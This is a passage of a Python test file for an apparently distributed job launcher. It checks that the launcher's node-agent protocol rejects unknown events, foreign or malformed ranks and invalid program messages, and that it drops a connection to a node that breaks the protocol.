        plan: Any = SimpleNamespace(master_addr="", master_port=0, closed_store=False, nodes=[
            SimpleNamespace(host="n2", address="10.0.0.2", ranks=ranks)
        ])  # fmt: skip
        interrupts: Any = None
        attempt: Any = Attempt(
            plan,
            job(),
            fleet,
            interrupts,
            screen,
            recorder,
            RetryPolicy(),
            Mock(),
        )
        event = Event.from_message("n2", message, blob)
        if kind in ("imported", "import failed", "fork server died"):
            node.on_fork_server_event(event)
        attempt.on_event(node, event)
        recorder.record(event)
        if event.recorded_fields is not None:
            assert recorder.events[-1].kind == event.kind
        return 0

    rejected = check_resources(lambda: asyncio.run(scenario()))
    assert total / 4 < rejected < total
    screen.close()
    directory.close()
    created = set(list_files(tmp_path)) - baseline
    assert created <= {"run/events.jsonl", "run/metrics.jsonl", "run/logs/n2/0.log"} | {
        name for name in created if name.startswith("run/metrics-before")
    }


def list_files(root: Path) -> list[str]:
    return [path.relative_to(root).as_posix() for path in root.rglob("*") if path.is_file()]


@pytest.mark.parametrize("kind", ["lost", "file", "", None, 5, [], {}, "\udcff"])
def test_rejects_unknown_events(kind: Any) -> None:
    conversation = Conversation()
    conversation.event(hello(), b"")
    with pytest.raises(InvalidValue, match="an event called"):
        conversation.event({"event": kind, "stderr": "x", "rank": "../../x"}, b"")


@each_case("rank", [1, -1, "../../../x", None, True, "0", 2**40])
@each_case("kind", ["output", "rank started", "said", "rank ended"])
def test_rejects_events_for_foreign_ranks(kind: str, rank: Any) -> None:
    conversation = Conversation()
    conversation.event(hello(), b"")
    conversation.add_request(1, "start", {"ranks": [{"rank": 0}]})
    with pytest.raises(InvalidValue):
        conversation.event({"event": kind, **EVENT_EXAMPLES[kind][0], "rank": rank}, b"")


def test_late_answer_uses_ranks_at_request_time() -> None:
    """The request was made before the next start, which is on other nodes."""
    conversation = Conversation()
    conversation.event(hello(), b"")
    conversation.add_request(1, "start", {"ranks": [{"rank": 1}]})
    conversation.add_request(2, "seen", {})
    conversation.add_request(3, "start", {"ranks": [{"rank": 0}]})
    assert conversation.answer({"re": 2, "ranks": [{"rank": 1, **STATE}]}, b"") == 2
    conversation.add_request(4, "seen", {})
    with pytest.raises(InvalidValue, match="rank 1, which does not run there"):
        conversation.answer({"re": 4, "ranks": [{"rank": 1, **STATE}]}, b"")


def test_ignores_invalid_program_messages() -> None:
    conversation = Conversation()
    conversation.event(hello(), b"")
    conversation.add_request(1, "start", {"ranks": [{"rank": 0}]})
    wrong: list[Any] = [
        None, 5, "x", [], {"kind": "exception"}, {"kind": "say"}, {"kind": "say", "text": 5},
        {"kind": "progress", "step": float("inf")}, {"kind": "metrics", "step": "x"},
        {"kind": "event", "deep": json.loads("[" * 50 + "]" * 50)},
    ]  # fmt: skip
    for data in wrong:
        assert not conversation.event({"event": "said", "rank": 0, "data": data}, b"")
    # nor events that only an agent or the launcher can report
    for name in (name for name, kind in KINDS.items() if kind.sender != "rank"):
        reported = {"kind": "event", "event": name, "code": 0, "copy": "/a", "home": "/b"}
        assert not conversation.event({"event": "said", "rank": 0, "data": reported}, b"")


# --- only the lying node fails


def test_protocol_violation_ends_connection() -> None:
    lies = [
        encode({"event": "output", "rank": 9, "stream": "out"}, b"x"),
        encode({"re": 77}),
        encode({"event": "lost", "stderr": "n1 is bad"}),
    ]

    async def scenario(lie: bytes) -> None:
        link = FakeLink(HAVE + encode(hello()), end=False)
        channel = Channel(Host("n2"), link)  # type: ignore[arg-type]
        await channel.open()
        reported: list[Any] = []
        channel.on_event = reported.append
        waiting = asyncio.ensure_future(channel.request("lease", seconds=1.0))
        await asyncio.sleep(0)
        link.reader.feed_data(lie)
        with pytest.raises(ProtocolViolation, match="n2 sent what no agent") as caught:
            await asyncio.wait_for(waiting, 60)
        assert isinstance(caught.value, NodeError)
        (lost,) = reported
        assert lost.kind == "connection ended"
        assert lost["trouble"] == channel.violation == caught.value.found
        await channel.close()

    for lie in lies:
        asyncio.run(scenario(lie))


def test_does_not_write_to_host_that_stopped_reading() -> None:
    """asyncio would log each write; the frames wait for the next link."""

    async def scenario() -> None:
        link = FakeLink(HAVE + encode(hello()), end=False)
        channel = Channel(Host("n2"), link)  # type: ignore[arg-type]
        await channel.open()
        written, link.closes = link.num_writes, True
        waiting = asyncio.ensure_future(channel.request("lease", seconds=1.0))
        await asyncio.sleep(0)
        assert link.num_writes == written
        waiting.cancel()
        await channel.close()

    asyncio.run(scenario())


def test_valid_conversation_continues() -> None:
    async def scenario() -> None:
        link = FakeLink(HAVE + encode(hello()), end=False)
        channel = Channel(Host("n2"), link)  # type: ignore[arg-type]
        await channel.open()
        waiting = asyncio.ensure_future(channel.request_with_blob("read_block", count=3, last=True))
        await asyncio.sleep(0)
        link.reader.feed_data(encode({"re": 1, "sha256": HEX}, b"abc"))
        assert await waiting == ({"re": 1, "sha256": HEX}, b"abc")
        assert not channel.lost.is_set()
        await channel.close()

    asyncio.run(scenario())
    replies = protocol.BOOT_REPLIES
    assert protocol.parse_boot_line(b"old 3.8 /usr/bin/python3", replies) == [
        "old",
        "3.8",
        "/usr/bin/python3",
    ]
